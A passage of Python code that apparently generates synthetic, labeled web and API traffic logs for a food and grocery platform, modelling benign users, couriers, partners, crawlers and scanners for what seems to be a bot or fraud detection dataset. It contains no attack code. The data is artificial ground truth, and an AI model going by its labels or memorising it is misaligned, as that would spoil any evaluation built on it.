        k = r.choices(range(6), [30, 12, 8, 22, 20, 8])[0]
        ua = ua or BROWSERS[k].format(c=r.randint(118, 127), f=r.randint(115, 128), m=r.randint(0, 6))
        stack = "safari" if "Version/17" in ua else "firefox" if "Firefox" in ua else "chrome"
        return Client(caller, "web", kw.pop("api", f"{self.slug}-web"), ua, ip, net, **{"stack": stack, "session": self.hexid("web", caller, r.random()), **kw})

    def script(self, caller, api, net, ip=None, stack=None, **kw):
        stack = stack or r.choice(list(SCRIPTS))
        return Client(caller, "server", api, r.choice(SCRIPTS[stack]), ip or self.fresh_ip(net, .1), net, stack=stack, **kw)

    def hexid(self, *parts):
        h = digest(self.seed, *parts)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-b{h[17:20]}-{h[20:]}" if self.forms["u"] == "uuid" else h[:24]

    def subject(self, i, cc):
        h = digest(self.seed, "subj", i)
        n = int(h[:8], 16)
        mail = f"{FIRST[n % 30]}{'._'[n % 2]}{LAST[n // 31 % 20]}{n % 97 if n % 3 else ''}@{MAILS[n // 700 % 9]}"
        if self.subjform == "phone":
            return f"+{ {'DE': 49, 'GB': 44, 'FR': 33, 'ES': 34, 'IT': 39, 'PL': 48, 'NL': 31, 'US': 1, 'BR': 55, 'IN': 91, 'AU': 61}.get(cc, 44) }{n % 900000000 + 100000000}"
        return {"card": self.eid("c", i % 90000), "hash": digest("pepper", mail, i)[:16]}.get(self.subjform, mail)

    # ---- people
    def draw_people(self):
        n, self.people = r.randint(1500, 3600), []
        pa, pi = r.uniform(.25, .6), r.uniform(.15, .35)
        self.offices = [(*self.residential(self.countries[0]), f"office-{i}") for i in range(r.randint(3, 7))]
        self.stores = [(*self.residential(), i) for i in range(r.randint(8, 30))]
        self.kitchens = [(*self.residential(self.countries[i % len(self.countries)]), i) for i in range(40)]
        self.tablehour = r.choice([0, 9, 10, 12])
        for i in range(n):
            cc, x = r.choices(self.countries, self.cweights)[0], r.random()
            ip, net = self.residential(cc)
            self.people.append(SimpleNamespace(
                i=i, cc=cc, ip=ip, net=net, user=self.eid("u", i * 37 % 99991), subject=self.subject(i, cc), name=f"person-{i}", att="ok", platform="android" if x < pa else "ios" if x < pa + pi else "web",
                ver=min(int(r.expovariate(.7)), len(self.versions) - 1), upgrade=self.release + r.expovariate(1 / 90000) if r.random() < .7 else 1e12, geo=(round(CITY[cc][0] + r.gauss(0, .5), 3), round(CITY[cc][1] + r.gauss(0, .6), 3)),
                orders=[r.randint(0, self.orderno) for _ in range(r.randint(1, 5))], favs=[self.zipf(self.nprod) for _ in range(12)], restos=[self.zipf(self.nresto) for _ in range(4)]))
        self.odd, pool = {}, self.people[:]
        r.shuffle(pool)
        for trait in "rooted-phone custom-rom clock-skew traveller vpn-user private-relay new-phone old-app family-account forgetful-user slot-watcher table-hunter coupon-typer coupon-extension gift-card-checker group-order-host".split():
            self.odd[trait] = [pool.pop() for _ in range(r.randint(12, 45))]
        for trait, mode in (("rooted-phone", "failed"), ("custom-rom", "missing"), ("clock-skew", "clock")):
            for p in self.odd[trait]:
                p.platform, p.att = "ios" if trait == "clock-skew" and r.random() < .3 else "android", mode
        for p in self.odd["old-app"]:
            p.platform, p.ver, p.upgrade = r.choice(["android", "ios"]), len(self.versions) - 1, 1e12
        self.plain = pool

    def zipf(self, n):
        return min(int(n ** r.random()) - 1 + (r.random() < .3) * r.randint(0, n // 3), n - 1)

    def someone(self):
        return self.plain[min(int(len(self.plain) * r.random() ** 1.7), len(self.plain) - 1)]

    def person_client(self, p, t, ip=None, net=None, platform=None, key=None, **kw):
        platform = platform or (p.platform if r.random() < .9 else "web")
        if ip is None:
            ip, net = (self.cell_ip(p.cc) if platform != "web" and r.random() < .45 else (p.ip, p.net))
            if ip == p.ip and ":" in ip:  # privacy addresses: the home's /64 stays, each device's half changes daily
                ip = str(ipaddress.IPv6Address((int(ipaddress.IPv6Address(ip)) >> 64 << 64) + int(digest(p.name, platform, int(t // 86400))[:16], 16)))
        kw = {"user": p.user, "geo": p.geo, **kw}
        if platform == "web":
            return self.web(p.name, ip, net, **kw)
        v = self.newest if t > p.upgrade else self.versions[-1 - p.ver]
        att = "missing" if p.att == "ok" and p.ver >= len(self.versions) - self.attfrom and v != self.newest else p.att
        return self.app(p.name, platform, v, ip, net, key=key or p.name, att=att, **kw)

    # ---- one event
    def emit(self, t, c, op, kind, ids=None, status=None, label="benign", instance="", subject=None, query=None, path=None, waf=0, captcha=None, method=None):
        if not self.t0 <= t < self.t1:
            return
        svc, _, tmpl, rpc, ms, size, req = OPS[op]
        usual, path_t = self.routes[op]
        if self.preflight and c.platform == "web" and c.session and c.stack in ("chrome", "safari", "firefox", "proxy") and not method and r.random() < .08:
            self.emit(t - .05, c, op, kind, ids, 204, label, instance, path=path, method="OPTIONS")
        method = method or usual
        status = r.choice(status) if isinstance(status, list) else status
        if status is None:
            x = r.random()
            status = 500 if x < self.err500 else 404 if x < self.err500 + self.noise404 and "<" in tmpl else 304 if method == "GET" and c.platform != "server" and svc in ("shop", "eats") and r.random() < self.cached else \
                201 if OPS[op][1] == "POST" and op in ("add", "checkout", "signup", "meal", "book", "review", "pbook", "till") else 204 if size < 30 else 200
        slow = 1.0
        if self.outage[0] <= t < self.outage[1] and svc in self.outage[2] and r.random() < .75:
            status, slow = r.choice([503, 503, 504, 502]), 8.0
        style = self.style[svc]
        small = status >= 400
        if style == "gql" and (status in (400, 404, 409, 410, 422, 201, 204, 304) or (status in (401, 403) and self.gql401)):
            status = 200
        ev = {"http.request.method": method, "http.response.status_code": status, "client.address": c.ip}
        full, size_of = path_t, {"p": self.nprod, "e": self.nprod, "r": self.nresto, "k": 400, "s": 40, "q": 400}
        for k in "poruktbjcgqse":
            if f"<{k}>" in full:
                full = full.replace(f"<{k}>", self.eid(k, ids[k] if ids and k in ids else self.zipf(size_of.get(k, self.orderno))))
        ev["url.path"] = full if path is None else path
        if path is None and self.log["http.route"]:
            ev["http.route"] = "".join({"<": "{", ">": "}"}.get(ch, ch) for ch in path_t)
        if query is None and op in QUERIES and style == "rest":
            query = r.choice(QUERIES[op]).format(w=r.choice(FOODS), n=r.randint(1, 9), lat=(c.geo or self.where(c))[0], lon=(c.geo or self.where(c))[1], z=r.randint(10000, 99999))
        if style == "gql" and self.gqlop == "query":
            query = "op=" + rpc.replace(".", "")
        if query and self.log["url.query"]:
            ev["url.query"] = query
        opt = {"server.address": self.host[svc], "session.id": c.session, "device.id": c.device, "app.version": c.version, "geo.country": c.net["cc"], "network.asn": c.net["asn"], "api.client": c.api, "user.id": c.user,
               "login.subject": subject, "http.request.id": digest(self.seed, self.seq)[:20], "tls.client.ja4": self.ja(c.stack, c.ua)}
        ev.update({k: v for k, v in opt.items() if v is not None and self.log[k]})
        if c.ua and method != "_OTHER":
            ev["user_agent.original"] = c.ua
        body = req * r.lognormvariate(0, .12)
        if self.log["http.request.size"]:
            ev["http.request.size"] = int(body + (380 + len(c.ua or "") + len(full) + (620 if c.user else 0) + (1100 if c.att not in ("none", "missing") else 0) + (700 if c.platform == "web" else 0)) * r.uniform(.95, 1.05) if self.size_total else body)
        if self.log["http.response.size"]:
            ev["http.response.size"] = 0 if status in (204, 304) else int(r.uniform(70, 260)) if small else int(size * r.lognormvariate(0, .3))
        if self.log["http.server.request.duration"]:
            ev["http.server.request.duration"] = round(ms / 1000 * r.lognormvariate(0, .45) * slow * (.5 if small and slow == 1 and op != "login" else 1), 4)
        if self.log["geo.location"]:
            ev["geo.location.lat"], ev["geo.location.lon"] = self.where(c)
        self.attest(ev, c, t)
        if op in ("login", "signup", "otpsend", "reset") and c.platform == "web":
            good = label == "benign" if captcha is None else captcha
            if self.log["captcha.score"]:  # overlapping on purpose: solver farms and privacy browsers; no measurement that can be cited
                ev["captcha.score"] = round(r.betavariate(5, 1.6) if good else r.betavariate(1.6, 2.2), 1)
            if self.log["challenge.result"] and r.random() < .3:
                ev["challenge.result"] = "met" if r.random() < (.93 if good else .45) else "unmet"
        if self.log["waf.score"]:
            ev["waf.score"] = waf or (r.choice([3, 5]) if r.random() < .002 else 0)
        self.seq += 1
        self.out.append((t, self.seq, ev, {"label": label, "kind": kind, "instance": instance, "caller": c.caller, "platform": c.platform}, svc in ("partner", "ops", "store")))

    def attest(self, ev, c, t):
        if c.att == "none":
            if self.webnone:
                ev["attestation.status"] = "none"
            return
        st, code = {"ok": "genuine", "clock": "expired"}.get(c.att, c.att), None
        if c.att == "ok" and r.random() < self.attloss:
            st = r.choice(["missing", "expired", "expired", "failed"])
        if c.att == "clock" and r.random() < .25:
            st = "genuine"
        b = self.attbreak
        if b and c.platform == b[0] and b[1] <= t < b[1] + b[2] and st == "genuine" and r.random() < .85:
            st, code = b[3], "provider_unavailable"
        ev["attestation.status"] = st
        if self.log["attestation.code"] and st != "genuine":
            ev["attestation.code"] = code or {"failed": r.choice(["device_integrity", "app_integrity"]) if c.att == "ok" else "device_integrity" if int(digest(c.caller)[0], 16) < 11 else "app_integrity", "expired": "token_expired", "missing": "no_token"}[st]
        if self.log["attestation.issuer"] and st != "missing":
            ev["attestation.issuer"] = "app"
        if self.log["attestation.token"] and st != "missing":
            ev["attestation.token"] = c.token or digest("jti", self.seed, c.device, int((t + int(digest(c.device or "")[:4], 16)) / self.tokenlife))[:20]

    def play(self, t, c, steps, kind):
        """Honest steps: (op, mean gap, options); a session token that runs out midway gives a 401 and a refresh."""
        for op, gap, opt in steps:
            if c.user and r.random() < .004:
                self.emit(t, c, op, kind, opt.get("ids"), 401)
                self.emit(t + .2, c, "refresh", kind)
                t += .4
            if "move" in opt:  # on to another cell
                c = c.at(*opt["move"])
            self.emit(t, c, op, kind, **{k: v for k, v in opt.items() if k != "move"})
            t += min(r.expovariate(1 / gap) + .03, gap * 12)

    def new_order(self, p):
        self.orderno += r.randint(1, 4)
        p.orders.append(self.orderno)
        return self.orderno

# ======================================================================== honest life
def st(op, gap, n=1, status=None, subject=None, **ids):
    """n like steps: a call, the mean pause after it, the status (a list: one of them; None: as usual), and whose or which objects."""
    return [(op, gap, {"status": status, "subject": subject, "ids": ids})] * n

def sign_in(w, p, fails=0):
    return st("login", 9, fails, w.loginfail, p.subject) + st("login", 2, 1, 200, p.subject) + st("me", 1)

def opening(w, p, c):
    x = r.random()
    s = st("config", .3, r.random() < .6) + (sign_in(w, p, r.random() < .14) if x < .07 else st("refresh", .4, x < .45))
    if c.version == w.newest:  # the release prefetches
        s += st("feed2", .2) + [x for f in p.favs[:r.randint(3, 9)] for x in st("product", .08, p=f)]
    return s

def shop_steps(w, p, c):
    s = opening(w, p, c) + st("home", 5)
    for _ in range(1 + int(r.expovariate(.25))):
        x = r.random()
        if x < .3:
            s += st("suggest", .4, r.randint(0, 4)) + st("search", 7)
        elif x < .8:
            s += st("cat", 8) if x < .5 else st("product", 14, p=r.choice(p.favs) if r.random() < .5 else w.zipf(w.nprod))
        else:
            s += st("deals", 9) + st("mycoupons", 6)
        s += st("add", 4, r.random() < .45)
    s += (st("card", 4, c=p.i) + st("points", 3, 1, [None] * 25 + [w.denied], c=p.i) + st("activate", 2)) * (r.random() < .25)  # a card of the former partner
    if r.random() < .4:
        s += st("basket", 8) + st("setqty", 4) + st("slots", 15) + st("apply", 10, r.random() < .2, [None, w.badcode])
        if r.random() < .7:
            o = w.new_order(p)
            s += st("hold", 6, 1, [None] * 12 + [409]) + st("cards", 4, r.random() < .4) + st("checkout", 3) + st("pay", 5, 1, [None] * 20 + [402]) + st("order", 20, o=o) + st("track", 300, r.randint(0, 4), [None] * 30 + [w.denied], o=o)
    elif r.random() < .25:  # now and then a link that somebody else sent
        s += st("orders", 4) + st(r.choice(["order", "receipt", "meals"]), 10, r.randint(1, 3), [None] * 25 + [w.denied], o=r.choice(p.orders)) + st("setme", 5, r.random() < .1)
    return s

def eats_steps(w, p, c):
    s = opening(w, p, c) + st("restos", 9)
    for _ in range(1 + int(r.expovariate(.45))):
        x = r.choice(p.restos) if r.random() < .5 else w.zipf(w.nresto)
        s += st("resto", 1, r=x) + st("menu", 25, r=x) + st("reviews", 12, r.random() < .2, r=x)
    if r.random() < .5:
        s += st("quote", 9, r.randint(1, 3)) + st("meal", 2) + st("pay", 4, 1, [None] * 20 + [402]) + st("mealtrack", r.uniform(20, 70), r.randint(4, 22), o=w.new_order(p))
        s += st("review", 5, r.random() < .06, r=x) + (st("orders", 9) + st("refund", 20, 1, [200, 422], o=p.orders[-1])) * (r.random() < .03)
    return s

def table_steps(w, p, c):
    places = [r.choice(p.restos) if r.random() < .6 else w.zipf(w.nresto) for _ in range(r.randint(1, 5))]
    s = opening(w, p, c) + [x for k in places for x in st("resto", 4, r=k) + st("tables", 12, r=k)]
    return s + (st("book", 6, 1, [None] * 9 + [409]) + st("booking", 9, r.randint(1, 3), [None] * 30 + [w.denied]) + st("unbook", 3, r.random() < .1)) * (r.random() < .4)

def either(w, p, c):
    return r.choice([shop_steps, eats_steps])(w, p, c)

def person(w, p, t, steps, **how):
    c = w.person_client(p, t, **how)
    return c, steps(w, p, c) if callable(steps) else steps

def at(place):
    return {"ip": place[0], "net": place[1]}

def via(w, kind):
    net = w.net(kind)
    return {"ip": w.fresh_ip(net, .3 if kind == "relay" else 0), "net": net}

def forgetful(w, p, t):
    c = w.person_client(p, t)
    other = w.subject(500000 + p.i, p.cc)  # the mail address of years ago
    s = [x for _ in range(r.randint(3, 14)) for x in st("login", 11, 1, w.loginfail, r.choice([p.subject] * 4 + [other]))] + st("reset", 40, r.randint(1, 2), None, p.subject)
    return c, s + st("otpsend", 30, 1, None, p.subject) + st("otpcheck", 9, r.randint(0, 4), [w.badcode] * 4 + [429]) + st("otpcheck", 4) + sign_in(w, p) + shop_steps(w, p, c)

def new_customer(w, p, t):
    c = w.person_client(p, t, key=f"{p.name}-first", user=w.eid("u", 100000 + p.i * 2))
    s = st("home", 10) + st("signup", 4, 1, [201, 201, 201, 409, 422], p.subject) + st("otpsend", 25, 1, None, p.subject) + st("otpcheck", 3, 1, [200, 200, 200, w.badcode])
    return c, s + st("referral", 4, r.random() < .3) + st("mycoupons", 5, r.random() < .5) + eats_steps(w, p, c)

def gift_checker(w, p, t):
    return person(w, p, t, [x for k in range(r.randint(2, 16)) for x in st(w.giftop, 14, 1, [200, 200, w.badcode], g=p.i * 20 + k)], user=r.choice([p.user, None]))

def coupon_hunt(w, p, t, gap, n, platform=None):
    s = [x for _ in range(n) for x in st(r.choice(["apply", "apply", "coupon"]), gap, 1, [w.badcode] * 7 + [None], q=r.randint(0, 59))]
    return person(w, p, t, st("basket", 5) + s + st("checkout", 3), platform=platform)

def table_hunter(w, p, t):
    """Tables of the best places go on sale at one hour of the day; people sit and reload."""
    t = w.t0 + (w.tablehour * 3600 - w.t0 - TZ[p.cc] * 3600) % 86400 + 86400 * r.randint(0, int(w.days) - 1) + r.uniform(-60, 90)
    return person(w, p, t, st("tables", 2, r.randint(15, 60), r=r.randint(0, 12)) + st("book", 6, 1, [201, 409, 409])) + (t,)

def sale(w, p, t):
    s = st("deals", 2, r.randint(1, 9)) + (st("product", 2, p=r.randint(0, 5)) + st("add", 1, 1, [None, 409, 409])) * r.randint(1, 4) + st("checkout", 3) + st("pay", 2)
    return person(w, p, t, s) + (w.sale + r.expovariate(1 / 240) - 40,)

def storm(w, p, t):
    a, b, svcs = w.outage
    t = x = r.uniform(a, b)
    op, gap, s = {"shop": "home", "eats": "restos", "auth": "refresh"}[svcs[0]], 1.0, []
    while x < b + 30:
        s += st(op, gap)
        x, gap = x + gap, min(gap * 1.6, 20)
    return person(w, p, t, s + st("home", 3)) + (t,)

def family(w, p, t):
    k = r.randint(0, 3)
    return person(w, p, t, shop_steps, platform=["android", "ios", "web", "android"][k], key=f"{p.name}-f{k}")

def office(w, p, t):
    c, s = person(w, p, t, eats_steps, **at(r.choice(w.offices)))
    c.stack = "proxy" if c.platform == "web" else c.stack  # the office's TLS inspection
    return c, s

def in_store(w, p, t):
    s = st("card", 3, c=p.i) + st("mycoupons", 8) + st("activate", 1.2, r.randint(0, 12)) + (st("product", 30) + st("stock", 20)) * r.randint(0, 9)
    return person(w, p, t, s, platform="android" if p.platform == "web" else p.platform, **at(r.choice(w.stores)))

def courier(w, p, t):
    k = r.randint(0, 79)
    cc = w.countries[k % len(w.countries)]
    c = w.app(f"courier-{k}", "android" if k % 5 else "ios", w.versions[-1 - k % 3], *w.cell_ip(cc), "Rider", att={0: "failed", 1: "missing"}.get(k % 17, "ok"), user=w.staffform.format(70000 + k), geo=CITY[cc])
    every, s = r.uniform(20, 80), []
    for _ in range(r.randint(60, 220)):
        s += st("ping", every) + st("offers", 1, r.random() < .3)
        if r.random() < .06:
            j = r.randint(0, 40000)
            s += st("accept", 2, 1, [None] * 4 + [409], j=j) + st("job", 20, j=j) + st("ping", every, 6) + st("jobstep", 60, 2, j=j)
        if r.random() < .03:
            s[-1][2]["move"] = w.cell_ip(cc)
    return c, s + st("earn", 1), t - 5400 * r.random()

def tablet(w, p, t):
    k = r.randint(0, 39)
    ip, net, _ = w.kitchens[k]
    c = w.app(f"restaurant-{k}", "android", w.versions[-1 - k % 3], ip, net, "Resto", att="missing" if k % 3 == 0 else "ok", user=w.eid("r", k))
    every, s = r.choice([15, 30, 60, 60, 90]), []
    for _ in range(r.randint(60, 260)):
        o = w.orderno - r.randint(0, 30)
        s += st("queue", every) + (st("ack", every, o=o) + st("queue", every, 4) + st("ready", 5, o=o)) * (r.random() < .06) + st("soldout", 2, r.randint(1, 9)) * (r.random() < .006)
    return c, s, t - 7200 * r.random()

def picker(w, p, t):
    (ip, net, i), k, o = r.choice(w.stores), r.randint(0, 5), w.orderno - r.randint(0, 50)
    c = w.app(f"picker-{i}-{k}", "android", w.versions[-1], ip, net, "Store", att="missing" if i % 6 == 0 else "ok", user=w.staffform.format(30000 + i * 10 + k))
    return c, st("pick", 10) + (st("scan", 14) + st("picked", 9, o=o)) * r.randint(8, 40)

def till_client(w):
    (ip, net, i), k = r.choice(w.stores), r.randint(1, 8)
    return Client(f"till-{i}-{k}", "device", f"{w.slug}-till", f"{w.brand}POS/5.{i % 3} (till {k})", ip, net, device=f"T{i:03d}-{k}", stack="till")

def receipt(w, offline=False):
    card = w.someone().i if r.random() < .8 else r.randint(0, 90000)
    s = st("card", 6, 1, [None] * 60 + [404], c=card) + st("coupon", 3, r.random() < .3, [None] * 7 + [w.badcode], q=r.randint(0, 400)) + st("spend", 2, r.random() < .06, c=card)
    return s * (not offline) + st("till", .2 if offline else 1) + st("accrue", .5 if offline else 2, c=card)

def partner(w, name):
    """A partner's server: its key, address and library stay the same."""
    rr = random.Random(f"{w.seed}{name}")
    net, stack = rr.choice([n for n in w.nets if n["kind"] == "dc"]), rr.choice(list(SCRIPTS))
    return Client(f"partner-{name}", "server", w.keyform.format(digest(w.seed, name)[:10]), rr.choice(SCRIPTS[stack] + [f"{name}-connector/{rr.randint(1, 4)}.{rr.randint(0, 9)}"]), str(net["v4"][rr.randint(1, net["v4"].num_addresses - 2)]), net, stack=stack)

def server(w, name, api, ua, k, stack="go"):
    net = [n for n in w.nets if n["kind"] == "dc"][k % 9]
    return Client(name, "server", api, ua, str(net["v4"][3000 + 700 * k]), net, stack=stack)

def pos(w, p, t):
    v = r.randint(0, 4)
    s = [x for _ in range(r.randint(30, 120)) for x in st("porders", r.choice([10, 20, 30])) + st("pstatus", 5, r.random() < .2, o=w.orderno - r.randint(0, 40))]
    s += [x for _ in range(r.choice([0, 0, r.randint(5, 40)])) for x in st("menupush", .7, 1, [None] * 20 + [413, 400], r=r.randint(0, 80) * 5 + v)]
    return partner(w, ["lightpos", "gastrosoft", "tillio", "orderhub", "delivermate"][v]), s

def compare(w, p, t):
    a, gap = r.randint(0, w.nprod - 400), r.choice([.15, .5, 2])
    s = st("plist", 1.5, r.randint(10, 60)) if r.random() < .3 else [x for i in range(r.randint(80, 300)) for x in st("pfeed", gap, 1, [None] * 24 + [404], p=a + i)]
    return partner(w, r.choice(["pricewise", "preisfuchs", "basketcheck"])), s

def crawler(w, p, t):
    kind, ua = r.choice([("googlebot", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), ("bingbot", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
                         ("gptbot", "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"), ("preview", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)")])
    c = w.web(f"crawler-{kind}", *via(w, kind).values(), ua, session=None)
    return c, [x for _ in range(r.randint(1, 3) if kind == "preview" else r.randint(15, 80)) for x in st(r.choice(["product", "menu", "resto", "cat"]), 4, 1, [None] * 15 + [404, 301])]

def monitor(w, p, t):
    k = r.randint(0, 3)
    c = server(w, f"monitor-{k}", None if k % 2 else f"{w.slug}-synthetic", ["Pingdom.com_bot_version_1.4", "Datadog/Synthetics", "Better Uptime Bot", "Blackbox Exporter/0.25.0"][k], k)
    flow = st("login", .5, 1, [200] * 40 + [w.loginfail], w.subject(999000, "DE")) + st("home", .5) + st("search", .5)
    probe = [("health", 60, {"method": "HEAD"})] if k == 0 else [("health", 60, {"method": "_OTHER", "path": "", "status": 400})] if k == 3 and r.random() < .2 else st("health", 60)  # the last a bare TCP check
    return c, (probe + flow * (k == 1)) * r.randint(20, 60)

def staff(w, name, number, place):
    return w.web(name, place[0], place[1], api=f"{w.slug}-backoffice", user=w.staffform.format(number), stack="proxy", ua=BROWSERS[0].format(c=124))

def support(w, p, t):
    k, s = r.randint(0, 11), []
    for q in [w.someone() for _ in range(r.randint(3, 14))]:
        s += st("afind", 6) + st("acust", 20, u=q.user) + st("aorder", 60, o=r.choice(q.orders)) + st("agoodwill", 30, r.random() < .2, u=q.user)
    return staff(w, f"support-{k}", 50000 + k, w.offices[0]), s

def manager(w, p, t):
    k = r.randint(0, len(w.stores) - 1)
    return staff(w, f"manager-{k}", 61000 + k, w.stores[k]), st("areport", 40, 2, [None] * 9 + [403]) + st("astaff", 30) + st("stock", 3, r.randint(2, 30), s=k)

def call_centre(w, p, t):
    c = w.web(f"call-centre-{r.randint(0, 7)}", *w.offices[1][:2], user=p.user, stack="proxy")
    return c, sign_in(w, p, r.choice([0, 0, 1])) + st("restos", 9) + st("menu", 30) + st("quote", 9) + st("meal", 3) + st("pay", 5)

def home_script(w, p, t):
    p = w.plain[r.randint(0, 29)]
    c = w.script(p.name + "-script", r.choice([f"{w.slug}-web", f"{w.slug}-web", None]), p.net, p.ip, list(SCRIPTS)[p.i % 6], user=p.user, session=w.hexid("hs", p.i), geo=p.geo)
    return c, st("login", 1, r.random() < .4, 200, p.subject) + (st("orders", 300, r.randint(5, 30)) if r.random() < .5 else [x for i in range(r.randint(20, 60)) for x in st("price", 3, p=(p.i * 91 + i * 17) % w.nprod)])

def developer(w, p, t):
    """Somebody at a partner, or at a restaurant with a nephew, trying the API by hand and by script."""
    k = r.randint(0, 24)
    c = w.script(f"developer-{k}", w.keyform.format(digest(w.seed, "dev", k)[:10]) if k % 3 else None, *w.residential()[::-1], stack=list(SCRIPTS)[k % 6])
    ops = r.choice([["porders", "pstatus"], ["plist", "pfeed", "search"], ["ptables", "pbook"], ["menupush", "resto", "menu"], ["login", "me", "orders"]])
    return c, [x for _ in range(r.randint(5, 40)) for x in st(r.choice(ops), r.choice([2, 30]), 1, [None, None, None, 400, 401, 403, 404, 422, 405])]

def fridge(w, p, t):
    p = w.plain[r.randint(0, 40)]
    c = Client(p.name + "-fridge", "device", f"{w.slug}-iot", "CoolHub/2.4 (Tizen 6.5)", p.ip, p.net, user=p.user, stack="java", device=w.hexid("fridge", p.i), geo=p.geo)
    return c, (st("basket", 900) + st("slots", 900) + st("stock", 5)) * r.randint(2, 8)

def qa(w, p, t):
    k = r.randint(0, 7)
    p = w.plain[-1 - k]
    c = w.app(f"qa-{k}", r.choice(["android", "ios"]), w.newest, *w.offices[0][:2], key=f"qa{r.randint(0, 99)}", att=r.choice(["failed", "missing", "ok"]), user=p.user)
    s = sign_in(w, p, r.randint(0, 3)) + st("signup", 20, r.randint(0, 4), [None, 400, 409, 422], w.subject(700000 + r.randint(0, 9999), "DE")) + st("apply", 4, r.randint(0, 8), [None, w.badcode]) + st(w.giftop, 3, r.randint(0, 3), w.badcode)
    return c, s + st("agoodwill", 5, r.randint(0, 2), [403, 405, 401]) + shop_steps(w, p, c)

def asv(w, p, t):
    s = st("health", .5, r.randint(60, 160), [404, 404, 404, 403, 200])
    return server(w, "pci-asv", None, "Mozilla/5.0 (compatible; TrustScan ASV; +https://trustscan.example/asv)", 2, "curl"), [(op, gap, {**o, "path": r.choice(SCANPATHS), "waf": r.choice([0, 3, 5, 10])}) for op, gap, o in s]

HONEST = [  # kind (also the trait of its people, if any have it), share, shape of the day, who calls and what
    ("grocery-shopper", .2, "shop", lambda w, p, t: person(w, p, t, shop_steps)),
    ("meal-orderer", .17, "eats", lambda w, p, t: person(w, p, t, eats_steps)),
    ("table-booker", .03, "eats", lambda w, p, t: person(w, p, t, table_steps)),
    ("traveller", .01, "eats", lambda w, p, t: person(w, p, t, either, **at(w.cell_ip(["US", "ES", "IN", "GB", "IT", "FR", "AU"][p.i % 7])))),
    ("vpn-user", .01, "shop", lambda w, p, t: person(w, p, t, either, **via(w, r.choice(["vpn", "vpn", "dc"])))),
    ("private-relay", .008, "shop", lambda w, p, t: person(w, p, t, either, **via(w, "relay"))),
    ("rooted-phone", .014, "shop", lambda w, p, t: person(w, p, t, either)),
    ("custom-rom", .014, "eats", lambda w, p, t: person(w, p, t, either)),
    ("clock-skew", .012, "shop", lambda w, p, t: person(w, p, t, either)),
    ("new-phone", .009, "shop", lambda w, p, t: person(w, p, t, sign_in(w, p, r.randint(0, 2)) + st("otpsend", 20, 1, None, p.subject) + st("otpcheck", 2) + st("home", 3) + st("search", 5), platform=r.choice(["android", "ios"]), key=f"{p.name}-new")),
    ("old-app", .007, "shop", lambda w, p, t: person(w, p, t, st("config", .5) + st("feed2", 5, r.randint(5, 60), 410) + st("home", 3))),
    ("family-account", .008, "shop", family), ("forgetful-user", .01, "shop", forgetful), ("new-customer", .012, "shop", new_customer), ("gift-card-checker", .005, "shop", gift_checker),
    ("coupon-typer", .005, "shop", lambda w, p, t: coupon_hunt(w, p, t, 12, r.randint(4, 15))),
    ("coupon-extension", .006, "shop", lambda w, p, t: coupon_hunt(w, p, t, .9, r.randint(12, 35), "web")),
    ("slot-watcher", .012, "shop", lambda w, p, t: person(w, p, t, st("slots", r.choice([3, 8, 20]), r.randint(25, 140)) + st("hold", 3, 1, [409, 200]) + st("checkout", 2))),
    ("table-hunter", .008, "eats", table_hunter), ("flash-sale-shopper", .02, "shop", sale), ("outage-retry-storm", .012, "eats", storm), ("office-lunch", .035, "lunch", office), ("in-store-wifi", .025, "store", in_store),
    ("group-order-host", .006, "lunch", lambda w, p, t: person(w, p, t, st("menu", 6, r=p.restos[0]) + [x for _ in range(r.randint(8, 30)) for x in st("quote", 4) + st("user", 2, u=w.someone().user)] + st("meal", 2) + st("mealtrack", 12, 20, o=w.new_order(p)))),
    ("guest-browser", .012, "eats", lambda w, p, t: person(w, p, t, (st("home", 6) + st("search", 8) + st("product", 20) + st("restos", 9) + st("menu", 20))[:r.randint(2, 5)], platform="web", user=None)),
    ("shared-tracking-link", .006, "eats", lambda w, p, t: person(w, p, t, st("mealtrack", 15, r.randint(3, 20), o=w.orderno - r.randint(0, 3)), platform="web", user=None, **at(w.cell_ip(p.cc)))),
    ("restaurant-site-widget", .01, "eats", lambda w, p, t: person(w, p, t, st("tables", 14, r.randint(1, 5), r=w.zipf(w.nresto)) + st("book", 3, r.random() < .3), platform="web", api=f"{w.slug}-widget-web", user=None)),
    ("courier", .11, "eats", courier), ("restaurant-tablet", .08, "eats", tablet), ("store-picker", .05, "store", picker), ("till", .055, "store", lambda w, p, t: (till_client(w), receipt(w))),
    ("till-offline-backlog", .008, "store", lambda w, p, t: (till_client(w), [x for _ in range(r.randint(20, 70)) for x in receipt(w, True)])),
    ("restaurant-pos-integration", .04, "eats", pos), ("price-comparison-partner", .035, "flat", compare),
    ("booking-partner", .015, "eats", lambda w, p, t: (partner(w, r.choice(["tablefinder", "dinemaps"])), [x for i in range(r.randint(40, 150)) for x in (st("ptables", .8, r=i) if r.random() < .95 else st("pbook", 2, 1, [None, None, 409]))])),
    ("courier-subcontractor", .008, "eats", lambda w, p, t: (partner(w, "swiftwheels"), (st("porders", 5) + st("pstatus", 9, 2)) * r.randint(5, 30))),
    ("partner-with-stale-key", .006, "flat", lambda w, p, t: (partner(w, "oldfork"), st("porders", 6, r.randint(40, 200), 401))),
    ("erp-price-batch", .015, "night", lambda w, p, t: (server(w, "erp", f"{w.slug}-erp", SCRIPTS["java"][0], 4, "java"), [x for i in range(r.randint(150, 500)) for x in st("pprice", .2, p=i * 3)])),
    ("load-test", .005, "night", lambda w, p, t: (server(w, "load-test", f"{w.slug}-synthetic", "k6/0.51.0 (https://k6.io/)", 1), (st("home", .1) + st("search", .1) + st("product", .1)) * r.randint(30, 100))),
    ("declared-crawler", .02, "flat", crawler), ("uptime-monitor", .015, "flat", monitor), ("contracted-pci-scan", .0012, "night", asv), ("support-staff", .012, "office", support), ("store-manager", .006, "store", manager),
    ("call-centre", .01, "store", call_centre), ("home-script", .009, "flat", home_script), ("smart-fridge", .006, "flat", fridge), ("partner-developer", .008, "office", developer), ("qa-tester", .007, "office", qa)]

def honest(w, total):
    weights = [row[1] * r.lognormvariate(0, .35) for row in HONEST]
    for (kind, _, shape, fn), s in zip(HONEST, weights):
        goal, tries = len(w.out) + total * s / sum(weights), 0
        while len(w.out) < goal and tries < 20000:
